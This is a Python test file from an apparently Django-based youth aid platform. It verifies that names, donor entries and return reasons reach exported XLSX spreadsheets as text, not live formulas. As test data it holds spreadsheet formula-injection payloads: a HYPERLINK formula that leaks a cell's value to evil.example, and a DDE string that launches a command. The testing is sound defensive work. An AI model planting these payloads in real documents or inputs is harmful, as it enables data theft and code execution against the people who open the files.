"""Issue 11 (9): text typed into the platform (a youth's name, a donor, a return reason) reaches the
batch and fund statement spreadsheets as text, never as a live formula."""

from __future__ import annotations

import io
import zipfile
from typing import Any

from django.utils import translation
from openpyxl import load_workbook

from longcheng.kernel.people.models import Resident

from .. import actions
from .test_pages_money import approved_and_batched, client_for, world  # noqa: F401  (fixture)

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


def texts(content: bytes) -> dict[str, str]:
    sheet = load_workbook(io.BytesIO(content)).active
    return {str(c.value): c.data_type for row in sheet.iter_rows() for c in row if c.value is not None}


def test_the_batch_file_carries_names_and_reasons_as_text(world: dict[str, Any]) -> None:  # noqa: F811
    Resident.objects.filter(pk=world["youth"].person_id).update(name="=1+1")
    batch = approved_and_batched(world)
    actions.do_pay_batch(batch.pk, acting_user=world["reviewer"])
    actions.do_return_payment(batch.payments.get(), reason=LINK, acting_user=world["reviewer"])
    response = client_for(world["reviewer"]).get(f"/youthaid/batches/{batch.pk}/?export=xlsx")
    assert response.status_code == 200
    xml = sheet_xml(response.content)
    assert "<f>" not in xml and "<f " not in xml
    cells = texts(response.content)
    assert cells[LINK] == "s" and cells["=1+1"] == "s"


def test_the_fund_statement_carries_the_donor_as_text(world: dict[str, Any]) -> None:  # noqa: F811
    # The memo starts with the donor in Chinese ("%(donor)s 的捐赠"), the language postings are made in.
    with translation.override("zh-hans"):
        actions.do_donate(1_000, donor="@SUM(1+1)*cmd|' /C calc'!A0", acting_user=world["reviewer"])
        actions.do_donate(2_000, donor=LINK, acting_user=world["reviewer"])
    fund = actions.youth_fund()
    response = client_for(world["reviewer"]).get(f"/funds/{fund.code}/statement.xlsx?start=2000-01-01&end=2099-12-31")
    assert response.status_code == 200, response.content[:300]
    xml = sheet_xml(response.content)
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK" in xml, xml
    cells = texts(response.content)
    assert [kind for text, kind in cells.items() if "HYPERLINK" in text] == ["s"]

